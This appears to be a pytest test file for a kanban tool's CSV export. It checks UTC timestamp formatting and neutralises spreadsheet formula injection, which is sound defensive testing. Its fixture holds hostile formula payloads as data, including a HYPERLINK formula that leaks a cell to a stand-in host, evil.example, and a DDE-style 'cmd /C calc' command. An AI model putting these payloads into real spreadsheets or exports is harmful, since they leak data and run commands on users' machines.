"""The CSV export reads right in pandas and spreadsheets: one time format, no formulas."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest

from mlkanban.domain.phases import Phase
from mlkanban.io.csv_export import FORMULA_STARTS, neutralise, timestamp
from tests.helpers import run_cli

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1-2 @SUM(A1)",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@pytest.fixture
def hostile(team, clock):
    """Events with and without microseconds, and text that a spreadsheet would run."""
    keys = []
    clock.advance(hours=2)
    for title in FORMULAS:
        clock.advance(microseconds=123_457)  # the clock's own times carry microseconds
        keys.append(team.add_task("CHURN", title, Phase.RESEARCH, owner="alice").key)
    team.add_task("CHURN", "'quoted' on purpose", Phase.RESEARCH, owner="alice")
    team.edit(keys[0], description="@alice\n- first the labels")
    clock.advance(hours=1)
    team.start(keys[0], at=datetime(2026, 11, 23, 12, 30, tzinfo=UTC))  # --at: whole seconds
    team.wait(keys[0], "=1+1 is the reason")
    team.add_person("zed", at=datetime(2026, 11, 20, 9, 0, tzinfo=UTC))
    return team


def _export(db_path, clock) -> str:
    result = run_cli(db_path, clock, "export", "--format", "csv")
    assert result.exit_code == 0, result.stderr
    return result.stdout


def test_every_time_has_one_format(hostile, db_path, clock):
    rows = list(csv.DictReader(io.StringIO(_export(db_path, clock))))
    assert len(rows) == hostile.counts()["events"]
    stamps = [row["at"] for row in rows]
    assert all(len(s) == 20 and s.endswith("Z") and s[10] == "T" for s in stamps), stamps
    assert "2026-11-20T09:00:00Z" in stamps  # a backdated --at
    assert "2026-11-23T12:30:00Z" in stamps
    assert "2026-11-23T12:00:00Z" in stamps  # the clock's 12:00:00.123457, cut to the second
    assert stamps == sorted(stamps)  # cutting keeps the order the events have


def test_pandas_reads_the_times_as_times(hostile, db_path, clock, tmp_path):
    pd = pytest.importorskip("pandas")
    path = tmp_path / "events.csv"
    assert run_cli(db_path, clock, "export", "--format", "csv", "-o", str(path)).exit_code == 0
    frame = pd.read_csv(path, parse_dates=["at"])
    assert isinstance(frame["at"].dtype, pd.DatetimeTZDtype), frame["at"].dtype
    assert str(frame["at"].dt.tz) == "UTC"
    assert frame["at"].min() == pd.Timestamp("2026-11-20T09:00:00Z")
    assert frame["at"].max() == pd.Timestamp("2026-11-23T13:00:00Z")


def test_no_cell_starts_a_formula(hostile, db_path, clock):
    rows = list(csv.reader(io.StringIO(_export(db_path, clock))))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    created = {row[10] for row in rows if row[4] == "created"}
    assert created >= {"'" + title for title in FORMULAS}
    assert "''quoted' on purpose" in created  # a leading quote is doubled: reversible
    assert "'=1+1 is the reason" in {row[11] for row in rows}
    assert "'@alice\n- first the labels" in {row[10] for row in rows if row[4] == "edited"}


def test_dropping_the_guard_gives_the_text_back(hostile, db_path, clock):
    rows = list(csv.DictReader(io.StringIO(_export(db_path, clock))))
    titles = [r["new"][1:] if r["new"].startswith("'") else r["new"]
              for r in rows if r["kind"] == "created"]
    assert titles == [*FORMULAS, "'quoted' on purpose"]


def test_the_jsonl_export_keeps_the_text_and_the_microseconds(hostile, db_path, clock):
    lines = run_cli(db_path, clock, "export").stdout.splitlines()[1:]
    events = [json.loads(line) for line in lines if '"type":"event"' in line]
    assert [e["new"] for e in events if e["kind"] == "created"][:4] == FORMULAS
    assert any(e["at"].endswith(".123457+00:00") for e in events)


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1", "'=1"), ("+1", "'+1"), ("-1", "'-1"), ("@a", "'@a"), ("\tx", "'\tx"),
     ("\rx", "'\rx"), ("'x", "''x"), ("a=1", "a=1"), (" =1", " =1"), ("", ""), (None, None),
     (3, 3)],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_timestamp_is_utc_whatever_the_zone():
    from zoneinfo import ZoneInfo

    summer = datetime(2026, 7, 1, 10, 0, 0, 999_999, tzinfo=ZoneInfo("Europe/Berlin"))
    assert timestamp(summer) == "2026-07-01T08:00:00Z"
